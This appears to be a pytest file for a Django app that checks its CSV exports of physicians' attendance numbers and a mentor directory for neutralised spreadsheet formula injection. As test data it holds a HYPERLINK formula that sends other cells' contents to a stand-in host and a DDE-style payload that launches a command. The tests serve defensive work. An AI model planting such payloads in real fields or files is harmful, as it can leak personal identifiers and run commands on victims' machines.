"""Attack: a formula in a participant's name runs in the leader's spreadsheet.

A participant registers with the name ``=HYPERLINK("https://x?d="&A2&A3)``.
When the leader opens the EFN CSV of a session, or the secretariat the yearly
chamber export, in a spreadsheet program, the cell becomes a formula that
can send the other members' EFNs away. Every CSV the project writes must
neutralise cells starting with ``=``, ``+``, ``-``, ``@``, tab or CR, while
EFN, VNR and date columns stay exactly as the EIV expects them.
"""

import csv
import io

import pytest
from django.urls import reverse

from balintkreis.accounts.tests.factories import UserFactory
from balintkreis.cme import export
from balintkreis.cme.tests.factories import EventNumberFactory
from balintkreis.core import spreadsheet
from balintkreis.groups.tests.factories import MembershipFactory
from balintkreis.meetings.tests.factories import (
    AttendanceFactory,
    MeetingFactory,
    days_ago,
)
from balintkreis.mentoring import directory
from balintkreis.mentoring.models import MentorProfile
from balintkreis.mentoring.tests.factories import MentorProfileFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://x?d="&A2&A3)'
ATTACKER_EFN = "802760020090329"
VICTIM_EFN = "802760901234566"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), row


@pytest.fixture
def poisoned_meeting(group, member):
    EventNumberFactory(group=group)
    meeting = MeetingFactory(group=group, starts_at=days_ago(2))
    attacker = UserFactory(first_name="", last_name=FORMULA, efn=ATTACKER_EFN)
    MembershipFactory(group=group, user=attacker)
    AttendanceFactory(meeting=meeting, user=attacker, confirmed=True)
    member.efn = VICTIM_EFN
    member.save()
    AttendanceFactory(meeting=meeting, user=member, confirmed=True)
    return meeting


def test_leaders_efn_csv_neutralises_a_formula_name(leader_client, poisoned_meeting):
    url = reverse(
        "cme:meeting-report-csv",
        args=[poisoned_meeting.group.slug, poisoned_meeting.pk],
    )
    response = leader_client.get(url)
    assert response.status_code == 200
    rows = _cells(response.content.decode())
    _assert_no_formula(rows)
    names = [row[2] for row in rows[1:]]
    assert "'" + FORMULA in names
    # EFN and date columns stay untouched for the EIV.
    day = poisoned_meeting.local_date.isoformat()
    assert sorted(row[0] for row in rows[1:]) == sorted([ATTACKER_EFN, VICTIM_EFN])
    assert {row[1] for row in rows[1:]} == {day}


def test_yearly_chamber_export_neutralises_a_formula_name(poisoned_meeting):
    text, written, _left_out = export.year_csv(poisoned_meeting.local_date.year)
    rows = _cells(text)
    assert written == 2
    _assert_no_formula(rows)
    assert "'" + FORMULA in [row[3] for row in rows[1:]]
    vnr = export.rows_for_meeting(poisoned_meeting)[0].event_number.vnr
    assert {row[0] for row in rows[1:]} == {vnr}
    assert sorted(row[1] for row in rows[1:]) == sorted([ATTACKER_EFN, VICTIM_EFN])


def test_mentor_directory_csv_neutralises_name_and_phone(db):
    profile = MentorProfileFactory(city="@SUM(1+1)*cmd|' /C calc'!A0")
    profile.user.first_name = "-2+3"
    profile.user.phone = "+49 3641 123456"
    profile.user.save()
    profiles = MentorProfile.objects.filter(pk=profile.pk).with_running_count()
    rows = _cells(directory.export_csv(profiles).decode("utf-8"))
    _assert_no_formula(rows)
    assert "'+49 3641 123456" in rows[1]


@pytest.mark.parametrize("start", DANGEROUS)
def test_every_dangerous_first_character_is_neutralised(start):
    assert spreadsheet.neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["802760020090329", "2026-12-01", "Anna Muster", ""])
def test_ordinary_cells_stay_as_they_are(value):
    assert spreadsheet.neutralise(value) == value
